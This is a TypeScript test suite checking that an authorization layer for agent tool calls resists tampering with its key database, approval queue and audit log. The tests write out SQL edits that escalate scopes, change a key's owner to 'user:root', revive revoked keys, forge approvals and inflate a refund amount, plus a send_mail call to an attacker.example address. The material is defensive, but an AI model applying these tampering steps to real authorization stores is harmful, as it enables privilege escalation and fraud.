import { appendFile, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { describe, expect, onTestFinished, test, vi } from "vitest";
import { attackedWard } from "./attacked-ward.ts";
import type { AttackedWard } from "./attacked-ward.ts";

// Someone who can edit the key database or the audit files. Who: whoever gets at the state folder, and
// not at the pepper. What: more scopes, a revoked key that works again, a yes that nobody gave, a log
// without what they did. What holds: each record of a key is sealed with the pepper; one that is put back
// is found by `lint`; an answer is for the question that it was given for. Not defended yet: the audit
// log is not tamper-evident, and says so; a record of an approval that is edited as a whole is a yes.

function database(ward: AttackedWard, file: string): DatabaseSync {
  const opened = new DatabaseSync(join(ward.state, file));
  onTestFinished(() => opened.close());
  return opened;
}

describe("the database of keys", () => {
  test.for([
    ["more scopes", `json_set(body, '$.scopes', json('["**"]'))`],
    ["no constraints", `json_remove(body, '$.constraints')`],
    ["another dataset", `json_set(body, '$.constraints.dataset', json('["payroll"]'))`],
    ["another owner", `json_set(body, '$.owner', 'user:root')`],
    ["another audience", `json_set(body, '$.audience', 'external')`],
    ["another kind", `json_set(body, '$.kind', 'mgt')`],
    ["no end", `json_remove(body, '$.expiresAt')`],
    ["another tenant", `json_set(body, '$.tenant', 'other')`],
  ] as const)("a record that was given %s opens nothing", async ([, body]) => {
    const ward = await attackedWard();
    const constraints = { dataset: ["sales"] };
    const token = await ward.token(["warehouse:read"], { constraints });
    expect((await ward.attempt({ token }, { tool: "list_datasets" })).kind).toBe("done");
    database(ward, "keys.db").exec(`UPDATE keys SET body = ${body}`);
    const { ran, codes } = await ward.attempt({ token }, { tool: "list_datasets" });
    expect(ran).toEqual([]);
    expect(["key:record_invalid", "key:unknown"]).toContain(codes[0]);
  });

  test("a revoked key that is made active opens nothing", async () => {
    const ward = await attackedWard();
    const { key, token } = await ward.issue(["mail:read"]);
    await ward.ward.keys.revoke(key.id);
    database(ward, "keys.db").exec(`UPDATE keys SET body = json_set(body, '$.status', 'active')`);
    expect(await ward.attempt({ token }, { tool: "read_mail" })).toMatchObject({
      ran: [],
      codes: ["key:record_invalid"],
    });
  });

  test("the record of a wide key in the place of a narrow one's opens nothing", async () => {
    const ward = await attackedWard();
    const narrow = await ward.issue(["mail:read"]);
    const wide = await ward.issue(["mail:*"]);
    database(ward, "keys.db")
      .prepare(
        `UPDATE keys SET (version, body, seal, seal_pepper) =
           (SELECT version, body, seal, seal_pepper FROM keys WHERE id = ?) WHERE id = ?`,
      )
      .run(wide.key.id, narrow.key.id);
    const call = { tool: "send_mail", args: { to: "eve@attacker.example" } };
    expect((await ward.attempt({ token: narrow.token }, call)).codes).toEqual([
      "key:record_invalid",
    ]);
  });

  test("an earlier record that is put back is a key again, and `lint` says so", async () => {
    const ward = await attackedWard();
    const { key, token } = await ward.issue(["mail:read"]);
    const keys = database(ward, "keys.db");
    const row = keys.prepare("SELECT version, body, seal FROM keys").get()!;
    await ward.ward.keys.revoke(key.id);
    keys
      .prepare("UPDATE keys SET version = ?, body = ?, seal = ?")
      .run(row["version"]!, row["body"]!, row["seal"]!);
    expect((await ward.attempt({ token }, { tool: "read_mail" })).kind).toBe("done");
    // The entry of a revocation is not waited for.
    await vi.waitFor(async () => {
      const findings = await ward.ward.keys.lint();
      expect(findings.map(({ keyId, rule }) => [keyId, rule])).toContainEqual([key.id, "revived"]);
    });
  });
});

describe("the queue of approvals", () => {
  const args = { order: "7", amount: 5_000 };

  test.for([
    ["a status", `status = 'approved'`],
    ["a status and half an answer", `status = 'approved', answer = '{"verdict":"approve"}'`],
    [
      "an answer that is a no",
      `status = 'approved', answer = '{"verdict":"deny","approver":{"type":"user","id":"grace"},"at":"2026-01-01T00:00:00Z"}'`,
    ],
    ["no JSON", `status = 'approved', answer = 'yes'`],
  ] as const)("with %s and no more is no yes", async ([, change]) => {
    const ward = await attackedWard();
    const token = await ward.token(["payments:refund"]);
    const { approval } = await ward.attempt({ token }, { tool: "refund", args });
    database(ward, "approvals.db").exec(`UPDATE approvals SET ${change}`);
    for (const call of [{ approval: approval! }, {}]) {
      const resumed = await ward.attempt({ token }, { tool: "refund", args, ...call });
      expect({ ran: resumed.ran, kind: resumed.kind }).toEqual({ ran: [], kind: "deny" });
    }
  });

  test("a yes to a small call is none to a large one that was put in its place", async () => {
    const ward = await attackedWard();
    const token = await ward.token(["payments:refund"]);
    const { approval } = await ward.attempt({ token }, { tool: "refund", args });
    const grace = await ward.token(["approvals:answer"], { owner: "user:grace" });
    const answer = { id: approval!, verdict: "approve", approver: { token: grace } } as const;
    await ward.ward.enforcer.answerApproval(answer);
    database(ward, "approvals.db").exec(
      `UPDATE approvals SET request = json_set(request, '$.args.amount', 900000)`,
    );
    const large = { order: "7", amount: 900_000 };
    const resumed = await ward.attempt(
      { token },
      { tool: "refund", args: large, approval: approval! },
    );
    expect(resumed.ran).toEqual([]);
  });
});

function log(ward: AttackedWard): string {
  return join(ward.state, "audit", "entries.jsonl");
}

describe("the audit log", () => {
  test("says in its first line that it shows no tampering", async () => {
    const ward = await attackedWard();
    await ward.token(["mail:read"]);
    const [opened] = (await readFile(log(ward), "utf8")).split("\n");
    expect(JSON.parse(opened!)).toMatchObject({ event: "log_opened", tamperEvident: false });
  });

  test("with lines that are none takes what comes after them, and reads none of them", async () => {
    const ward = await attackedWard();
    const token = await ward.token(["mail:read"]);
    await ward.ward.close();
    await appendFile(
      log(ward),
      '{"id":"1","type":"decision","effect":"allow"}\nnone at all\n{"torn',
    );
    const pepperFile = join(ward.folder, "secrets", "pepper.json");
    const again = await attackedWard({ state: ward.state, keys: { pepperFile } });
    expect((await again.attempt({ token }, { tool: "read_mail" })).kind).toBe("done");
    const entries = await ward.entries();
    expect(entries.some(({ id }) => id === "1")).toBe(false);
    expect(entries.at(-1)).toMatchObject({ type: "outcome", status: "succeeded" });
  });

  test("holds no token and no argument for its reader to take", async () => {
    const ward = await attackedWard();
    const token = await ward.token(["mail:*", "payments:refund"]);
    const secret = "correct horse battery staple";
    await ward.attempt({ token }, { tool: "read_mail", args: { secret } }, secret);
    await ward.attempt({ token }, { tool: "send_mail", args: { to: "a@acme.example", secret } });
    await ward.attempt({ token }, { tool: "refund", args: { order: "1", amount: secret } });
    await ward.attempt({ token }, { tool: token, session: token, callId: token, args: { secret } });
    const text = await readFile(log(ward), "utf8");
    expect(text).not.toContain(secret);
    expect(text).not.toContain(token.slice(10));
  });

  test("that was emptied is written on, and an outcome lost with it opens nothing", async () => {
    const ward = await attackedWard();
    const token = await ward.token(["mail:read"]);
    await writeFile(log(ward), "");
    const { kind, codes } = await ward.attempt({ token }, { tool: "read_mail" });
    expect(kind === "done" || codes[0] === "engine:audit_unavailable").toBe(true);
  });
});
